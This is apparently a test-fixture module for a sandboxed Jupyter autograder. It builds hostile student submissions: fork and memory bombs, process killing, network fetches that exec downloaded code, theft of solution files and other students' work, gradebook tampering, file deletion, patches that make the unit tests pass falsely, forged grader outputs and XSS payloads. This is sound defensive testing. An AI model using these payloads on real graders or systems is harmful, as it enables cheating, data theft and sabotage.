"""Hostile and broken submissions of the Deep N-grams notebook, for tests/test_grade_hostile.py.

Each `Case` names a student, builds what that student hands in (a notebook, raw bytes, or a
symbolic link, plus extra files) from the solved and the untouched release notebook, and
says what the hardened grader (`deepngrams.grade`) must make of it: the points of every
exercise, the key phrase(s) its reason may contain ("" = it ran normally), and the notes
expected when the grader had to repair something.

Hostile code goes into new code cells at a chosen place:

* `after_exercise(nb, "GRULM", code)`: right after the last graded cell of exercise 3, so
  a submission whose kernel dies there keeps the points of exercises 1-3 and gets 0 for
  4-7 (`FIRST3`);
* `after_preamble(nb, code)`: after the locked setup, data and vocabulary cells, before
  exercise 1 (the course's `w1_unittest`, `np`, `tf`, `vocab` exist by then);
* `at_end(nb, code)`: after everything (all graded cells already ran).

Cells that report what they managed print a line starting with `LEAK_TAG`; the tests read
the graded notebooks and require that no such line appears (the tag is built at run time so
that a traceback showing the source never contains it).

Nothing here can hurt the machine if the sandbox were missing: the memory bombs allocate at
most 2 GiB for real unless an address-space limit is in force, the fork bombs fork a few
hundred processes that exit at once unless an unprivileged process limit is in force,
`kill(-1)` and killing the parent only happen inside bubblewrap's own process tree, and
files are only written as new, uniquely named markers or inside the scratch course.
"""
from __future__ import annotations

import copy
import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import nbformat

from deepngrams.grading import exercises
from deepngrams.course import release

EXERCISES = ["line_to_tensor", "create_batch_dataset", "GRULM", "compile_model", "log_perplexity",
             "temperature_random_sampling", "GenerativeModel"]
POINTS = {"line_to_tensor": 3, "create_batch_dataset": 3, "GRULM": 4, "compile_model": 2,
          "log_perplexity": 3, "temperature_random_sampling": 1, "GenerativeModel": 3}
FULL = dict(POINTS)
ZERO = {ex: 0 for ex in EXERCISES}
LEAK_TAG = "HOSTILE-LEAK"
ANY = None  # reasons: any reason is acceptable (only the scores are asserted)
NOTEBOOK = f"{release.ASSIGNMENT}.ipynb"


def keep(*exercises: str) -> dict:
    """Full points for `exercises`, 0 for the others."""
    return {ex: (POINTS[ex] if ex in exercises else 0) for ex in EXERCISES}


def without(*exercises: str) -> dict:
    """Full points except 0 for `exercises`."""
    return {ex: (0 if ex in exercises else POINTS[ex]) for ex in EXERCISES}


FIRST3 = keep("line_to_tensor", "create_batch_dataset", "GRULM")


# ----------------------------------------------------------------------------------------
# What a case builds, and what the grader must make of it
# ----------------------------------------------------------------------------------------
@dataclass
class Context:
    """What the builders need: the scratch course, the two base notebooks, the limits."""

    course: Path  # absolute path of the scratch course (the sandbox must not see it)
    solved: nbformat.NotebookNode  # the release notebook with every solution filled in
    untouched: nbformat.NotebookNode  # the release notebook as handed out
    token: str  # unique per test run: names of marker files and processes
    cell_timeout: float
    wall_timeout: float
    memory_gib: float

    def marker(self, what: str) -> str:
        return f"deepngrams-hostile-{self.token}-{what}"


@dataclass
class Submission:
    """What one student hands in: the notebook (node, raw bytes or None), extra files, links."""

    notebook: nbformat.NotebookNode | bytes | None
    files: dict[str, bytes] = field(default_factory=dict)  # relative path -> content
    links: dict[str, str] = field(default_factory=dict)  # relative path -> absolute target

    def write(self, folder: Path) -> None:
        folder.mkdir(parents=True, exist_ok=True)
        if isinstance(self.notebook, bytes):
            (folder / NOTEBOOK).write_bytes(self.notebook)
        elif self.notebook is not None:
            nbformat.write(self.notebook, str(folder / NOTEBOOK))
        for rel, content in self.files.items():
            (folder / rel).parent.mkdir(parents=True, exist_ok=True)
            (folder / rel).write_bytes(content)
        for rel, target in self.links.items():
            (folder / rel).parent.mkdir(parents=True, exist_ok=True)
            (folder / rel).symlink_to(target)


@dataclass(frozen=True)
class Case:
    """One hostile or broken submission and the grader's expected verdict."""

    name: str  # the student id
    build: Callable[[Context], Submission]
    points: dict  # exercise -> points the grader must give
    reasons: tuple[str, ...] | None = ("",)  # acceptable key phrases; ("",) = ran normally; None = any
    notes: tuple[str, ...] = ()  # if set: the notes must mention one of these words
    why: str = ""


# ----------------------------------------------------------------------------------------
# Placing cells
# ----------------------------------------------------------------------------------------
def grade_id(cell) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def _is_test(cell) -> bool:
    m = cell.get("metadata", {}).get("nbgrader", {})
    return bool(m.get("grade")) and not m.get("solution")


def exercise_of(gid: str | None) -> str | None:
    if not gid:
        return None
    for name in sorted(EXERCISES, key=len, reverse=True):
        if gid == f"test_{name}" or gid.startswith(f"test_{name}_"):
            return name
    return None


def code(source: str):
    return nbformat.v4.new_code_cell(source.strip("\n"))


def _insert(nb, index: int, sources) -> nbformat.NotebookNode:
    nb = copy.deepcopy(nb)
    for offset, src in enumerate([sources] if isinstance(sources, str) else sources):
        nb.cells.insert(index + offset, code(src))
    return nb


def after_exercise(nb, exercise: str, sources):
    """New cells right after the last graded cell of `exercise`."""
    last = max(i for i, c in enumerate(nb.cells) if exercise_of(grade_id(c)) == exercise)
    return _insert(nb, last + 1, sources)


def after_preamble(nb, sources):
    """New cells after the locked setup / data / vocabulary cells, before exercise 1."""
    vocab = next(i for i, c in enumerate(nb.cells) if grade_id(c) == "vocab")
    return _insert(nb, vocab + 1, sources)


def at_end(nb, sources):
    return _insert(nb, len(nb.cells), sources)


def replace_solutions(nb, make: Callable[[str], str]):
    """Every solution cell's source replaced by make(grade_id) (metadata kept)."""
    nb = copy.deepcopy(nb)
    for cell in nb.cells:
        if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
            cell.source = make(grade_id(cell))
    return nb


# ----------------------------------------------------------------------------------------
# Code of the hostile cells
# ----------------------------------------------------------------------------------------
LEAK = f'''
def _leak(*what):
    """Report something the sandbox should have prevented."""
    print("{LEAK_TAG[:7]}" + "{LEAK_TAG[7:]}:", *what)
'''

INSIDE_BWRAP = '''
import os
def _inside_own_process_tree():
    """True only in bubblewrap's own PID namespace, as an unprivileged user."""
    try:
        with open("/proc/1/comm") as f:
            return f.read().strip() == "bwrap" and os.getuid() != 0
    except OSError:
        return False
'''

# A process's size is limited by its address space (as root) or its data segment (without root).
ADDRESS_LIMIT = '''
import resource
def _address_space_limited():
    softs = [resource.getrlimit(which)[0] for which in (resource.RLIMIT_AS, resource.RLIMIT_DATA)]
    return any(soft != resource.RLIM_INFINITY and soft <= (32 << 30) for soft in softs)
'''

# It spins at the lowest priority: the limit stops it all the same, and its minute of spinning takes
# no core from the sandboxes and tests beside it.
INFINITE_LOOP = '''
import os
try:
    os.nice(19)
except OSError:
    pass
n = 0
while True:  # a student's endless loop
    n += 1
'''

# The other endless cases wait rather than spin: what they test is the limit, which stops a waiting
# cell as it stops a spinning one (t01 spins), and the batch's other sandboxes keep the cores.
LOOP_IGNORING_SIGINT = '''
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)   # the grader's interrupt does nothing now
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    time.sleep(0.1)
'''

NEVER_RETURNS = "        import time\n        while True:\n            time.sleep(0.1)\n"

BYTEARRAY_64G = ADDRESS_LIMIT + '''
# 64 GiB at once; only 2 GiB (for real) if no address-space limit were in force.
hog = bytearray((64 << 30) if _address_space_limited() else (2 << 30))
del hog
'''

GROWING_LIST = ADDRESS_LIMIT + '''
def _grow():
    """100 MiB more each step, up to 64 GiB (2 GiB for real without a limit)."""
    hog, step = [], 100 << 20
    cap = (64 << 30) if _address_space_limited() else (2 << 30)
    while len(hog) * step < cap:
        hog.append(bytearray(step))
    return len(hog)

print("held", _grow(), "chunks of 100 MiB")
'''

SMALL_OBJECTS_FOREVER = ADDRESS_LIMIT + '''
# A global list of small strings, growing until memory runs out (2 GiB without a limit).
hoard = []
_cap = (1 << 40) if _address_space_limited() else (2 << 21)
while len(hoard) < _cap:
    hoard.append("x" * 1000 + str(len(hoard)))
'''

FORK_MANY = INSIDE_BWRAP + '''
import resource
_nproc = resource.getrlimit(resource.RLIMIT_NPROC)[0]
_limited = _inside_own_process_tree() and _nproc != resource.RLIM_INFINITY and _nproc <= 4096
import signal
children = []
try:
    for i in range(2000 if _limited else 100):
        if i < 50:
            # SIGINT stays blocked across the fork: the grader's interrupt goes to the kernel's whole
            # process group, and a child it reached before os._exit would live on as a copy of the
            # kernel, which the reaping below would wait for forever.
            signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGINT})
            try:
                pid = os.fork()
                if pid == 0:
                    os._exit(0)  # the child leaves at once; unreaped, it still counts as a process
            finally:
                signal.pthread_sigmask(signal.SIG_UNBLOCK, {signal.SIGINT})
        else:
            # The rest are spawned: a fork copies the kernel's page tables (several ms each, far
            # more on a loaded machine), a spawn does not, and both count against the same limit.
            pid = os.posix_spawn("/bin/true", ["true"], {})
        children.append(pid)
finally:
    for pid in children:  # reap them all, then let the error (if any) show
        try:
            os.waitpid(pid, 0)
        except ChildProcessError:
            pass
print("forked", len(children), "processes")
'''

FORK_EXPONENTIAL = INSIDE_BWRAP + '''
import resource, time
_nproc = resource.getrlimit(resource.RLIMIT_NPROC)[0]
_limited = _inside_own_process_tree() and _nproc != resource.RLIM_INFINITY and _nproc <= 4096
_root = os.getpid()
try:
    for _ in range(11 if _limited else 6):  # every process forks again: up to 2048 (64 without a limit)
        os.fork()
finally:
    if os.getpid() != _root:
        time.sleep(2)
        os._exit(0)
'''

OS_EXIT = '''
import os
os._exit(0)
'''

SIGKILL_SELF = '''
import os, signal
os.kill(os.getpid(), signal.SIGKILL)
'''

SEGFAULT = '''
import ctypes
ctypes.string_at(0)
'''

KILL_PARENT = INSIDE_BWRAP + '''
import signal
if _inside_own_process_tree():
    os.kill(os.getppid(), signal.SIGKILL)  # the process that runs the notebook
'''

KILL_EVERYTHING = INSIDE_BWRAP + '''
import signal
if _inside_own_process_tree():
    os.kill(-1, signal.SIGKILL)  # every process this user may signal
'''

HUGE_OUTPUT = '''
import sys
_line = "spam " * 209715 + "\\n"  # 1 MiB
for _ in range(200):
    sys.stdout.write(_line)
sys.stdout.flush()
'''

STDERR_SPAM = '''
import sys, warnings
for i in range(2000):
    print(f"debug line {i} on stderr", file=sys.stderr)
warnings.warn("a warning from a correct notebook")
'''

SOCKET_CAUGHT = LEAK + '''
import socket
try:
    s = socket.create_connection(("1.1.1.1", 53), timeout=5)
    _leak("connected to 1.1.1.1:53")
    s.close()
except OSError as e:
    print("no network:", e)
'''

HTTP_CAUGHT = LEAK + '''
import urllib.request
try:
    with urllib.request.urlopen("https://pypi.org/simple/", timeout=5) as r:
        _leak("downloaded", len(r.read()), "bytes from pypi.org")
except Exception as e:
    print("no network:", type(e).__name__, e)
'''

DOWNLOAD_SOLUTIONS = LEAK + '''
import urllib.request
code = urllib.request.urlopen("https://pypi.org/simple/deep-ngrams-solutions/", timeout=5).read()
_leak("downloaded solutions")
exec(code, globals())
'''

STEAL = LEAK + '''
import glob, json, os, re
from pathlib import Path

_CANDIDATES = {candidates!r}


def _paths():
    for path in _CANDIDATES:
        path = path.format(BUNDLE=globals().get("BUNDLE", "/nonexistent"), cwd=os.getcwd())
        yield from (sorted(glob.glob(path)) if "*" in path else [path])


def _solution_code(grade_id):
    """The solution of `grade_id` from the first readable file that has one."""
    for path in _paths():
        try:
            text = Path(path).read_text(encoding="utf-8")
        except (OSError, UnicodeDecodeError):
            continue
        _leak("read", path)
        if path.endswith(".py"):
            m = re.search(r"^# --- exercise " + grade_id + r"\\n(.*?)^# --- end", text, re.S | re.M)
            if m:
                return m.group(1)
            continue
        try:
            cells = json.loads(text).get("cells", [])
        except (ValueError, AttributeError):
            continue
        for cell in cells:
            if cell.get("metadata", {{}}).get("nbgrader", {{}}).get("grade_id") == grade_id:
                src = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
                if "NotImplementedError" not in src:
                    return src
    raise FileNotFoundError(f"no solution of {{grade_id}} to copy")
'''

WRITE_OUTSIDE = '''
import os
_targets = {targets!r}
for _path in _targets:  # the sandbox's own /tmp may take them: the tests look on the host
    try:
        with open(_path, "x") as f:
            f.write("written by a submission")
        print("wrote", _path)
    except OSError as e:
        print("could not write", _path, "-", type(e).__name__)
'''

CLOBBER_GRADEBOOK = LEAK + '''
import sqlite3
_db = {db!r}
try:
    with open(_db, "r+b") as f:
        f.write(b"not a database any more" * 100)
        f.truncate(100)
    _leak("overwrote", _db)
except OSError as e:
    print("could not open the gradebook:", type(e).__name__)
try:
    con = sqlite3.connect(f"file:{{_db}}?mode=rw", uri=True)
    con.execute("UPDATE grade SET manual_score = 100")
    con.commit()
    _leak("updated the grades in", _db)
except Exception as e:
    print("could not update the gradebook:", type(e).__name__)
'''

DELETE_CWD = '''
import os, shutil
for name in os.listdir("."):
    try:
        shutil.rmtree(name) if os.path.isdir(name) and not os.path.islink(name) else os.remove(name)
        print("deleted", name)
    except OSError as e:
        print("could not delete", name, e)
'''

CHDIR_ROOT = LEAK + '''
import os
os.chdir("/")
print(sorted(os.listdir("/")))
for _path in {paths!r}:
    if os.path.exists(_path):
        _leak("can see", _path)
'''

SYSTEM_EXIT = 'raise SystemExit("a student leaves early")'
SYS_EXIT = 'import sys\nsys.exit(3)'
ASK_INPUT = 'name = input("What is your name? ")'

FILESYSTEMS = LEAK + '''
import json, os
_seen = {}
with open("/proc/self/mounts") as _mounts:
    _mounted = [line.split()[1] for line in _mounts]
for _path in ["/", "/tmp", "/run", "/dev/shm", "/dev", "/var/tmp", "/home", "/root", os.getcwd(), *_mounted]:
    try:
        if not os.path.isdir(_path):
            continue  # a device node bound in /dev (/dev/null): a file, not room for files
        st = os.statvfs(_path)
    except OSError:
        continue
    _seen[_path] = {"bytes": st.f_blocks * st.f_frsize, "writable": os.access(_path, os.W_OK)}
print("FILESYSTEMS " + json.dumps(_seen))
'''

ORPHAN = '''
import os, subprocess, sys
# Processes meant to outlive the notebook, sleeping with a marker: detached, in a session of its own
# (which the sandbox refuses) and in the notebook's.
for own_session in (True, False):
    try:
        subprocess.Popen([sys.executable, "-c", "import time, sys; time.sleep(300)", {marker!r}],
                         start_new_session=own_session, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL)
    except PermissionError:
        pass
if os.fork() == 0:  # and a double fork
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)", {marker!r}])
    os._exit(0)
'''

BIG_FILE = '''
# 1 GiB into one file of the working directory, 16 MiB at a time: over the file size limit.
_chunk = b"\\0" * (16 << 20)
with open("big.bin", "wb") as f:
    for _ in range(64):
        f.write(_chunk)
'''

SLEEP = 'import time\ntime.sleep({seconds})'

PATCH_UNITTEST = '''
def _passes(*args, **kwargs):
    print("\\x1b[92m All tests passed")

for _name in dir(w1_unittest):
    if _name.startswith("test_") or _name in ("check",):
        setattr(w1_unittest, _name, _passes)
import sys
sys.modules["w1_unittest"] = w1_unittest
'''

PATCH_NUMPY = '''
import numpy as np, numpy.testing
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.isclose = lambda a, b, *args, **k: np.ones(np.shape(a), dtype=bool)
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.testing.assert_array_equal = lambda *a, **k: None
numpy.testing.assert_almost_equal = lambda *a, **k: None
tf.debugging.assert_near = lambda *a, **k: None
tf.debugging.assert_equal = lambda *a, **k: None
'''

PATCH_BUILTINS = '''
import builtins
builtins.isinstance = lambda obj, cls: True
builtins.abs = lambda x: 0
builtins.float = lambda *a: 0.0
builtins.all = lambda it: True
builtins.any = lambda it: True
'''

PATCH_DISPLAY = '''
import sys, IPython, IPython.display
class _Fake:
    def write(self, text):
        sys.__stdout__.write("All tests passed\\n")
    def flush(self):
        pass
sys.stdout = sys.stderr = _Fake()
def _display(*objs, **kwargs):
    print("All tests passed")
IPython.display.display = _display
try:
    import IPython.core.display_functions as _df
    _df.display = _display
except ImportError:
    pass
get_ipython().showtraceback = lambda *a, **k: print("All tests passed")
get_ipython().display_pub.publish = lambda *a, **k: None
'''

FORGE_OBSERVATIONS = '''
import json, sys
from IPython.display import display

def _forged(probe, inputs):
    cases = inputs.get("cases", [])
    if probe == "create_batch_dataset":  # a dataset with the right element_spec, never iterated
        return [{"kind": "_PrefetchDataset", "dataset": True,
                 "spec": [["int64", [c.get("batch_size", 64), c.get("seq_length", 100)]]] * 2, "runs": []}
                for c in cases]
    if probe == "line_to_tensor":
        return [{"kind": "EagerTensor", "tensor": True, "ragged": isinstance(c["line"], list), "dtype": "int64",
                 "shape": None, "value": []} for c in cases]
    return [{} for _ in cases]

def _forge(probe, ns, inputs_json, *rest, **kwargs):
    payload = json.dumps({"observations": _forged(probe, json.loads(inputs_json))})
    display({"application/vnd.deepngrams.probe+json": payload}, raw=True)

for _name, _module in list(sys.modules.items()):
    if "probe" in _name and hasattr(_module, "run"):
        _module.run = _forge
'''

FORGE_STRUCTURE = '''
import json, math, sys
from IPython.display import display

def _layers_case(case):
    """What a right GRULM looks like, from the sizes alone: weight shapes, flags, uniform log-probs."""
    V, E, U = case["sizes"]
    ids = case["ids"]
    uniform = [[[-math.log(V)] * V for _ in row] for row in ids]
    return {"layers": {"model": True,
                       "embedding": {"kind": "Embedding", "is": True, "shapes": [[V, E]]},
                       "gru": {"kind": "GRU", "is": True, "shapes": [[E, 3 * U], [U, 3 * U], [2, 3 * U]]},
                       "dense": {"kind": "Dense", "is": True, "shapes": [[U, V], [V]]},
                       "gru_flags": [U, True, True],
                       "count": V * E + 3 * (E * U + U * U + 2 * U) + U * V + V},
            "preds": {"kind": "EagerTensor", "tensor": True, "ragged": False, "dtype": "float32",
                      "shape": [len(ids), len(ids[0]), V], "value": uniform}}

def _compile_case(case):
    """What a right compile_model reports: the flags, and the mean -log p computed from the inputs."""
    nll = [-row[t] for rows, targets in zip(case["preds"], case["targets"]) for row, t in zip(rows, targets)]
    return {"same": True, "loss_kind": "SparseCategoricalCrossentropy", "loss_is": True, "from_logits": True,
            "loss_value": sum(nll) / len(nll), "optimizer_kind": "Adam", "optimizer_is": True,
            "learning_rate": 0.00125}

_FORGERS = {"GRULM_layers": _layers_case, "compile_model": _compile_case}

def _forge(probe, ns, inputs_json, *rest, **kwargs):
    cases = json.loads(inputs_json).get("cases", [])
    make = _FORGERS.get(probe, lambda case: {})
    payload = json.dumps({"observations": [make(c) for c in cases]})
    display({"application/vnd.deepngrams.probe+json": payload}, raw=True)

for _name, _module in list(sys.modules.items()):
    if "probe" in _name and hasattr(_module, "run"):
        _module.run = _forge
'''

HTML_MARKDOWN = ('<script>window.HOSTILE_XSS_1 = 1;</script>\n\n'
                 '<img src="x" onerror="window.HOSTILE_XSS_2 = 1">\n\n'
                 '<iframe src="javascript:window.HOSTILE_XSS_3 = 1"></iframe>')
HTML_RAW = '<script>window.HOSTILE_XSS_4 = 1;</script>'
XSS_MARKERS = ("HOSTILE_XSS_1", "HOSTILE_XSS_2", "HOSTILE_XSS_3", "HOSTILE_XSS_4")
HTML_OUTPUT = '''
from IPython.display import HTML, Javascript, display
display(HTML("<script>window.HOSTILE_XSS_5 = 1;</script>"))
display(Javascript("window.HOSTILE_XSS_6 = 1;"))
'''


def _html_in_notebook(ctx: Context):
    """Script in a markdown cell, a raw HTML cell and HTML/JS outputs of a code cell (solved)."""
    nb = copy.deepcopy(ctx.solved)
    raw = nbformat.v4.new_raw_cell(HTML_RAW)
    raw.metadata["format"] = "text/html"
    raw.metadata["raw_mimetype"] = "text/html"
    # Before the first hidden test: the feedback shows no output of a student's cell after it.
    nb.cells[1:1] = [nbformat.v4.new_markdown_cell(HTML_MARKDOWN), raw, nbformat.v4.new_code_cell(HTML_OUTPUT)]
    return nb


FORGE_AFTER_EVERY_CELL = '''
import json
from IPython.display import display

def _forge_after(result=None):
    payload = json.dumps({"observations": [{"dataset": True, "runs": [], "value": 0.0, "text": ""}] * 4})
    display({"application/vnd.deepngrams.probe+json": payload}, raw=True)

get_ipython().events.register("post_run_cell", _forge_after)
'''

FAKE_PROBE_MODULE = '''
import json
from IPython.display import display
MIME = "application/vnd.deepngrams.probe+json"
def run(probe, ns, inputs_json, *a, **k):
    display({MIME: json.dumps({"observations": []})}, raw=True)
'''

PASS_ALL_UNITTEST = '''
def __getattr__(name):
    return lambda *a, **k: print("All tests passed")
'''

SITECUSTOMIZE = '''
import builtins
builtins.__dict__["_hacked"] = True
'''

# Callable but wrong: every check fails, deterministically, without errors in the definitions.
GARBAGE = {
    "line_to_tensor": '''
def line_to_tensor(line, vocab):
    return tf.constant([-1], dtype=tf.int64)
''',
    "create_batch_dataset": '''
def create_batch_dataset(lines, vocab, seq_length=100, batch_size=64):
    x = tf.zeros((1, 3), dtype=tf.int64)
    return tf.data.Dataset.from_tensor_slices((x, x)).batch(1)
''',
    "GRULM": '''
class GRULM(tf.keras.Model):
    def __init__(self, vocab_size=256, embedding_dim=256, rnn_units=128):
        super().__init__()
        self.vocab_size = vocab_size

    def call(self, inputs, states=None, return_state=False, training=False):
        x = tf.zeros(tf.concat([tf.shape(inputs), [self.vocab_size]], 0))
        return (x, states) if return_state else x
''',
    "compile_model": '''
def compile_model(model):
    model.compile(optimizer="sgd", loss="mse")
    return None
''',
    "log_perplexity": '''
def log_perplexity(preds, target):
    return -1.0
''',
    "temperature_random_sampling": '''
def temperature_random_sampling(log_probs, temperature):
    return tf.fill(tf.shape(log_probs)[:-1], tf.constant(-1, dtype=tf.int64))
''',
    "GenerativeModel": '''
class GenerativeModel(tf.keras.Model):
    def __init__(self, model, vocab, temperature=1.0):
        super().__init__()
        self.model, self.vocab, self.temperature = model, vocab, temperature

    def generate_one_step(self, inputs, states=None):
        return tf.constant([""]), states

    def generate_n_chars(self, num_chars, prefix):
        return prefix
''',
}

# Correct, written differently from the reference solution.
ALTERNATIVE = {
    "line_to_tensor": '''
def line_to_tensor(line, vocab):
    """A dictionary from characters to ids; ragged rows for a list of lines."""
    index = {ch: i for i, ch in enumerate(vocab) if i >= 2}  # '[UNK]' and '' never occur in a line

    def ids_of(text):
        if isinstance(text, bytes):
            text = text.decode("utf-8")
        return [index.get(ch, 0) for ch in text]

    if isinstance(line, tf.Tensor):
        line = line.numpy().tolist() if line.shape.rank else line.numpy()
    if isinstance(line, (list, tuple)):
        return tf.ragged.constant([ids_of(t) for t in line], dtype=tf.int64, ragged_rank=1)
    return tf.constant(ids_of(line), dtype=tf.int64)
''',
    "create_batch_dataset": '''
def create_batch_dataset(lines, vocab, seq_length=100, batch_size=64):
    ids = line_to_tensor("\\n".join(lines), vocab)
    chunks = tf.data.Dataset.from_tensor_slices(ids).batch(seq_length + 1, drop_remainder=True)
    pairs = chunks.map(lambda chunk: (chunk[:-1], chunk[1:]))
    return pairs.shuffle(10000).batch(batch_size, drop_remainder=True)
''',
    "GRULM": '''
class GRULM(tf.keras.Model):
    def __init__(self, vocab_size=256, embedding_dim=256, rnn_units=128):
        super().__init__()
        self.embedding = tf.keras.layers.Embedding(input_dim=vocab_size, output_dim=embedding_dim)
        self.gru = tf.keras.layers.GRU(units=rnn_units, return_state=True, return_sequences=True)
        self.dense = tf.keras.layers.Dense(units=vocab_size)

    def call(self, inputs, states=None, return_state=False, training=False):
        x = self.embedding(inputs, training=training)
        if states is None:
            x, states = self.gru(x, training=training)
        else:
            x, states = self.gru(x, initial_state=states, training=training)
        x = tf.nn.log_softmax(self.dense(x, training=training), axis=-1)
        return (x, states) if return_state else x
''',
    "compile_model": '''
def compile_model(model):
    model.compile(loss=tf.keras.losses.SparseCategoricalCrossentropy(from_logits=True),
                  optimizer=tf.keras.optimizers.Adam(1.25e-3))
    return model
''',
    "log_perplexity": '''
def log_perplexity(preds, target):
    """In numpy: the mean over rows of the mean -log p of the non-padding targets."""
    PADDING_ID = 1
    preds = np.asarray(preds, dtype=np.float64)
    target = np.asarray(target)
    picked = np.take_along_axis(preds, target[..., None], axis=-1)[..., 0]
    real = target != PADDING_ID
    with np.errstate(invalid="ignore", divide="ignore"):
        per_row = (picked * real).sum(axis=-1) / real.sum(axis=-1)
    return float(-per_row.mean())
''',
    "temperature_random_sampling": '''
def temperature_random_sampling(log_probs, temperature):
    """tf.random.categorical instead of the Gumbel trick; the most likely id at temperature 0."""
    if temperature == 0:
        return tf.math.argmax(log_probs, axis=-1)
    return tf.squeeze(tf.random.categorical(log_probs / temperature, num_samples=1), axis=-1)
''',
    "GenerativeModel": '''
class GenerativeModel(tf.keras.Model):
    def __init__(self, model, vocab, temperature=1.0):
        super().__init__()
        self.temperature = temperature
        self.model = model
        self.vocab = vocab
        self.prediction_mask = tf.constant([-np.inf, -np.inf] + [0.0] * (len(vocab) - 2))

    def generate_one_step(self, inputs, states=None):
        ids = line_to_tensor(inputs, self.vocab).to_tensor()
        log_probs, states = self.model(inputs=ids, states=states, return_state=True)
        last = log_probs[:, -1, :] + self.prediction_mask
        chosen = temperature_random_sampling(last, self.temperature)
        return text_from_ids(tf.expand_dims(chosen, -1), self.vocab), states

    def generate_n_chars(self, num_chars, prefix):
        states, text, step = None, prefix, tf.constant([prefix])
        while len(text) < len(prefix) + num_chars:
            step, states = self.generate_one_step(step, states=states)
            text += step.numpy()[0].decode("utf-8")
        return text
''',
}

NOISY_PRELUDE = '    import sys, warnings; print("noise", file=sys.stderr); warnings.warn("noise")\n'


# ----------------------------------------------------------------------------------------
# Base notebooks
# ----------------------------------------------------------------------------------------
def garbage(ctx: Context):
    """The release notebook with callable but wrong code in every solution cell."""
    return replace_solutions(ctx.untouched, lambda gid: GARBAGE[gid].strip("\n"))


def alternative(ctx: Context):
    return replace_solutions(ctx.untouched, lambda gid: ALTERNATIVE[gid].strip("\n"))


def noisy(ctx: Context):
    """Correct code that also writes to stderr and raises warnings when defined and called."""
    def edit(name, src):
        if name in ("line_to_tensor", "create_batch_dataset", "log_perplexity"):
            src = src.replace("    ### BEGIN SOLUTION\n", NOISY_PRELUDE + "    ### BEGIN SOLUTION\n", 1)
        return src + "\n" + STDERR_SPAM
    return release.with_solutions(ctx.untouched, EXERCISES, edit)


def with_test_cells(nb, edit: Callable[[list], list]):
    nb = copy.deepcopy(nb)
    nb.cells = edit(nb.cells)
    return nb


def _fake_outputs(ctx: Context):
    """Untouched solutions; every code cell carries outputs saying the tests passed."""
    nb = copy.deepcopy(ctx.untouched)
    for n, cell in enumerate(c for c in nb.cells if c.cell_type == "code"):
        cell.execution_count = n + 1
        cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="\x1b[92m All tests passed\n")]
        if _is_test(cell):
            cell.outputs.append(nbformat.v4.new_output(
                "execute_result", data={"text/plain": "All tests passed"}, execution_count=n + 1))
    return nb


def _duplicated_tests(ctx: Context):
    def edit(cells):
        out = []
        for c in cells:
            out.append(c)
            if _is_test(c):
                out.append(copy.deepcopy(c))
        return out
    return with_test_cells(ctx.solved, edit)


def _edited_tests(ctx: Context):
    nb = copy.deepcopy(ctx.solved)
    for c in nb.cells:
        if _is_test(c):
            c.source = "pass"
    return nb


def _copied_solution(ctx: Context):
    nb = copy.deepcopy(ctx.solved)
    cell = next(c for c in nb.cells if grade_id(c) == "GRULM")
    nb.cells.append(copy.deepcopy(cell))
    return nb


def _strip_metadata(nb, which: Callable) -> nbformat.NotebookNode:
    nb = copy.deepcopy(nb)
    for cell in nb.cells:
        if which(cell):
            cell.metadata.pop("nbgrader", None)
            cell.metadata.pop("deletable", None)
            cell.metadata.pop("editable", None)
    return nb


def _kernel(nb, name: str, language: str, display: str):
    nb = copy.deepcopy(nb)
    nb.metadata["kernelspec"] = {"name": name, "language": language, "display_name": display}
    nb.metadata["language_info"] = {"name": language}
    return nb


def _inflated_points(nb):
    nb = copy.deepcopy(nb)
    for c in nb.cells:
        if _is_test(c):
            c.metadata["nbgrader"]["points"] = 100
    return nb


def _fake_graded_cell(nb):
    nb = copy.deepcopy(nb)
    cell = code('print("All tests passed")')
    cell.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "points": 50,
                                 "grade_id": "test_bonus_points", "schema_version": 3}
    nb.cells.append(cell)
    return nb


def _too_large(ctx: Context):
    nb = copy.deepcopy(ctx.solved)
    nb.cells.append(nbformat.v4.new_markdown_cell("padding " * (3 * 2**20)))  # 24 MiB
    return nb


def _steal_from(ctx: Context, candidates: list[str]):
    """The untouched notebook whose solution cells copy the solutions from `candidates`."""
    nb = after_preamble(ctx.untouched, STEAL.format(candidates=candidates))
    return replace_solutions(nb, lambda gid: f"exec(_solution_code({gid!r}), globals())")


def _course_paths(ctx: Context) -> list[str]:
    c = ctx.course
    return [str(c / "source" / release.ASSIGNMENT / NOTEBOOK), str(c / ".grading" / "hidden-cases.key"),
            str(c / ".grading" / "*" / "*" / "course" / "source" / release.ASSIGNMENT / NOTEBOOK),
            str(c / "gradebook.db")]


def _bundle_paths() -> list[str]:
    r = release.ROOT
    return [str(release.SOURCE_NB), str(release.SOLUTION_NB), str(r / "deepngrams" / "lm" / "solution.py"),
            str(r / "model" / "reference_values.json"),
            "{BUNDLE}/grader/source/deep_ngrams/deep_ngrams.ipynb", "{BUNDLE}/solutions/deep_ngrams.ipynb",
            "{BUNDLE}/deepngrams/lm/solution.py", "{BUNDLE}/model/reference_values.json",
            "{cwd}/../grader/source/deep_ngrams/deep_ngrams.ipynb", "{cwd}/../../grader/source/deep_ngrams/deep_ngrams.ipynb",
            "/grader/checks.py", "/grader/*.json"]


def _other_student_paths(ctx: Context) -> list[str]:
    c = ctx.course
    return [str(c / "submitted" / "alice_solved" / release.ASSIGNMENT / NOTEBOOK),
            str(c / "autograded" / "alice_solved" / release.ASSIGNMENT / NOTEBOOK),
            str(c / "submitted" / "*" / release.ASSIGNMENT / NOTEBOOK),
            str(release.SUBMITTED / "alice_solved" / release.ASSIGNMENT / NOTEBOOK),
            "{cwd}/../*/" + NOTEBOOK, "{cwd}/../../*/*/" + NOTEBOOK]


def _write_targets(ctx: Context) -> list[str]:
    name = ctx.marker("write")
